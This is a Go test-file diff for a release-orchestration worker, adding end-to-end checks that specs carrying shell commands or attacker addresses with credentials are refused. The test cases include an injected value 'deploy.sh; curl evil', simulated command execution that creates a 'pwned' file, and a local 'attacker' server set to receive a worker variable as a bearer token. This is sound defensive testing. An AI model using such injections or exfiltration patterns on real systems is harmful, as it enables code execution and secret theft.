@@ -4,9 +4,13 @@ import (
 	"context"
 	"encoding/json"
 	"errors"
+	"net/http"
+	"net/http/httptest"
+	"os"
 	"path/filepath"
 	"strconv"
 	"strings"
+	"sync/atomic"
 	"testing"
 	"time"
 
@@ -30,7 +34,7 @@ func TestGoodRelease(t *testing.T) {
 	t.Parallel()
 	e, id, log := newReleaseEnv(t, svc)
 
-	f := writeJSON(t, "release.json", execRelease(svc, log,
+	f := writeJSON(t, "release.json", execRelease(svc,
 		stage(10, time.Second), stage(50, time.Second), stage(100, time.Second)))
 	r := e.shepherdCLI("start", "-f", f, "--wait")
 	wantExit(t, r, cli.ExitOK)
@@ -61,7 +65,7 @@ func TestAbortMidSoakWithTemporalSignal(t *testing.T) {
 	t.Parallel()
 	e, id, log := newReleaseEnv(t, svc)
 
-	f := writeJSON(t, "release.json", execRelease(svc, log,
+	f := writeJSON(t, "release.json", execRelease(svc,
 		stage(10, time.Second), stage(50, 5*time.Minute), stage(100, time.Second)))
 	wantExit(t, e.shepherdCLI("start", "-f", f), cli.ExitOK)
 	e.waitStatus(svc, "soaking stage 2 at 50%", atStage(record.PhaseProgressing, 2, 50))
@@ -93,7 +97,7 @@ func TestApprovalGates(t *testing.T) {
 	t.Parallel()
 	e, id, log := newReleaseEnv(t, svc)
 
-	f := writeJSON(t, "release.json", execRelease(svc, log,
+	f := writeJSON(t, "release.json", execRelease(svc,
 		stage(10, time.Second), gated(25, time.Second), gated(50, time.Second), gated(100, time.Second)))
 	wantExit(t, e.shepherdCLI("start", "-f", f), cli.ExitOK)
 
@@ -169,7 +173,7 @@ func TestSecondReleaseRefused(t *testing.T) {
 	t.Parallel()
 	e, id, log := newReleaseEnv(t, svc)
 
-	first := execRelease(svc, log, stage(50, 5*time.Minute), stage(100, time.Second))
+	first := execRelease(svc, stage(50, 5*time.Minute), stage(100, time.Second))
 	wantExit(t, e.shepherdCLI("start", "-f", writeJSON(t, "v2.json", first)), cli.ExitOK)
 	active := e.waitStatus(svc, "soaking stage 1", atStage(record.PhaseProgressing, 1, 50))
 	firstRun := strings.TrimPrefix(active.ReleaseID, id+"/") // the release ID is "<workflow ID>/<run ID>"
@@ -225,19 +229,31 @@ func TestSecondReleaseRefused(t *testing.T) {
 func TestRawStartsThatMustFail(t *testing.T) {
 	t.Parallel()
 	e := newEnv(t, "e2e-raw-starts")
-	e.startWorker(t.TempDir())
 	dir := t.TempDir()
+	e.provide("targets", e2eTarget, execTarget(filepath.Join(dir, "release.log")))
+	e.startWorker(t.TempDir())
+	// An address the attacker controls: it must never hear from the worker.
+	var exfiltrated atomic.Int32
+	attacker := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		exfiltrated.Add(1)
+		t.Errorf("the attacker's server received %s %s with Authorization %q", r.Method, r.URL, r.Header.Get("Authorization"))
+	}))
+	defer attacker.Close()
+	pwned := filepath.Join(dir, "pwned")
 
 	cases := []struct {
 		name, workflowID string
 		input            any
 		wantType         string
 		wantMessage      []string
+		// preflight is true when the refusal comes from the worker's preflight (an activity), which
+		// alone knows the worker configuration.
+		preflight bool
 	}{
 		{
 			name:        "wrong workflow ID",
 			workflowID:  "e2e-wrong-id",
-			input:       execRelease("e2e-wrongid", filepath.Join(dir, "wrong-id.log"), stage(100, time.Second)),
+			input:       execRelease("e2e-wrongid", stage(100, time.Second)),
 			wantType:    workflows.ErrTypeInvalidSpec,
 			wantMessage: []string{`workflow ID "e2e-wrong-id"`, `must run as workflow ID "release:e2e-wrongid:production"`},
 		},
@@ -245,22 +261,61 @@ func TestRawStartsThatMustFail(t *testing.T) {
 			name:       "invalid spec",
 			workflowID: spec.WorkflowID("e2e-invalid", envName),
 			input: func() spec.Release {
-				r := execRelease("e2e-invalid", filepath.Join(dir, "invalid.log"), stage(50, time.Second))
-				r.Target.Exec.Promote = ""
+				r := execRelease("e2e-invalid", stage(50, time.Second))
+				r.Target = "deploy.sh; curl evil"
 				return r
 			}(),
 			wantType:    workflows.ErrTypeInvalidSpec,
-			wantMessage: []string{"invalid release spec (2 problems)", "target.exec.promote: required", "the last stage must be 100"},
+			wantMessage: []string{"invalid release spec (2 problems)", `target: "deploy.sh; curl evil" is not a provider name`, "the last stage must be 100"},
+		},
+		{
+			// Remote code execution on every worker, as specs could do before named providers.
+			name:       "commands in the spec",
+			workflowID: spec.WorkflowID("e2e-rce", envName),
+			input: map[string]any{
+				"service": "e2e-rce", "version": "v2",
+				"target": map[string]any{"type": "exec", "exec": map[string]any{
+					"deploy": "touch " + shellQuote(pwned), "traffic": "touch " + shellQuote(pwned),
+					"promote": "true", "rollback": "touch " + shellQuote(pwned),
+				}},
+				"stages": []any{map[string]any{"percent": 100, "soak": "1s"}}, "analysis": map[string]any{"disabled": true},
+			},
+			wantType:    workflows.ErrTypeInvalidSpec,
+			wantMessage: []string{"target: a spec no longer describes its target"},
+		},
+		{
+			// Secret exfiltration: a worker variable as a bearer token, sent to the attacker's address.
+			name:       "credentials and an address in the spec",
+			workflowID: spec.WorkflowID("e2e-exfiltrate", envName),
+			input: map[string]any{
+				"service": "e2e-exfiltrate", "version": "v2", "target": e2eTarget,
+				"stages": []any{map[string]any{"percent": 100, "soak": "5s"}},
+				"analysis": map[string]any{"interval": "1s",
+					"prometheus": map[string]any{"address": attacker.URL, "bearerTokenEnv": "TEMPORAL_NAMESPACE"}},
+			},
+			wantType:    workflows.ErrTypeInvalidSpec,
+			wantMessage: []string{"analysis.prometheus: a spec no longer gives metrics addresses or credentials"},
+		},
+		{
+			name:       "providers the worker lacks",
+			workflowID: spec.WorkflowID("e2e-unknown-names", envName),
+			input: map[string]any{
+				"service": "e2e-unknown-names", "version": "v2", "target": "k8s-prod",
+				"stages": []any{map[string]any{"percent": 100, "soak": "1s"}}, "analysis": map[string]any{"source": "thanos"},
+				"notifications": []any{"releases-slack"},
+			},
+			wantType: workflows.ErrTypeInvalidSpec,
+			wantMessage: []string{`target: this worker has no target named "k8s-prod": it has "e2e"`,
+				`analysis.source: this worker has no metrics source named "thanos": its configuration declares none`,
+				`notifications[0]: this worker has no notification channel named "releases-slack"`},
+			preflight: true,
 		},
 		{
 			name:       "undecodable input",
 			workflowID: spec.WorkflowID("e2e-undecodable", envName),
 			input: map[string]any{
 				"service": "e2e-undecodable", "version": "v2",
-				"target": map[string]any{"type": "exec", "exec": map[string]any{
-					"deploy":  "echo deploy >> " + shellQuote(filepath.Join(dir, "undecodable.log")),
-					"traffic": "true", "promote": "true", "rollback": "true",
-				}},
+				"target": e2eTarget,
 				"stages": []any{map[string]any{"percent": 100, "soak": 5}}, // a number, not "5s"
 			},
 			wantMessage: []string{`want a duration string such as "15m" or "30s", got 5`},
@@ -271,10 +326,7 @@ func TestRawStartsThatMustFail(t *testing.T) {
 			workflowID: spec.WorkflowID("e2e-misspelt", envName),
 			input: map[string]any{
 				"service": "e2e-misspelt", "version": "v2",
-				"target": map[string]any{"type": "exec", "exec": map[string]any{
-					"deploy":  "echo deploy >> " + shellQuote(filepath.Join(dir, "misspelt.log")),
-					"traffic": "true", "promote": "true", "rollback": "true",
-				}},
+				"target": e2eTarget,
 				"stages": []any{map[string]any{"percent": 100, "soak": "1s", "aproval": true}},
 			},
 			wantMessage: []string{`unknown key "aproval"`},
@@ -323,10 +375,22 @@ func TestRawStartsThatMustFail(t *testing.T) {
 					t.Errorf("history has %s: the refusal was retried", ev.GetEventType())
 				}
 				if ev.GetEventType() == enumspb.EVENT_TYPE_ACTIVITY_TASK_SCHEDULED {
-					t.Errorf("history schedules activity %s: something ran", ev.GetActivityTaskScheduledEventAttributes().GetActivityType().GetName())
+					name := ev.GetActivityTaskScheduledEventAttributes().GetActivityType().GetName()
+					if !(c.preflight && (name == workflows.ActivityPreflight || name == workflows.ActivityNotify || name == workflows.ActivityArchive)) {
+						t.Errorf("history schedules activity %s: something ran", name)
+					}
 				}
 			}
 		})
+	}
+	if _, err := os.Stat(pwned); !errors.Is(err, os.ErrNotExist) {
+		t.Errorf("a command from a spec ran on the worker (%s exists)", pwned)
+	}
+	if n := exfiltrated.Load(); n != 0 {
+		t.Errorf("the attacker's address received %d requests", n)
+	}
+	if lines := lines(t, filepath.Join(dir, "release.log")); len(lines) != 0 {
+		t.Errorf("the worker's target changed something: %q", lines)
 	}
 	for _, name := range []string{"wrong-id.log", "invalid.log", "undecodable.log", "misspelt.log"} {
 		wantLines(t, filepath.Join(dir, name))
@@ -341,7 +405,7 @@ func TestTemporalCLIStartQueryList(t *testing.T) {
 	t.Parallel()
 	e, id, log := newReleaseEnv(t, svc)
 
-	in := writeJSON(t, "release.json", execRelease(svc, log, gated(50, time.Second), stage(100, time.Second)))
+	in := writeJSON(t, "release.json", execRelease(svc, gated(50, time.Second), stage(100, time.Second)))
 	r := e.temporalCLI("workflow", "start", "--task-queue", workflows.TaskQueue, "--type", workflows.ReleaseWorkflow,
 		"--workflow-id", id, "--input-file", in)
 	wantExit(t, r, 0)
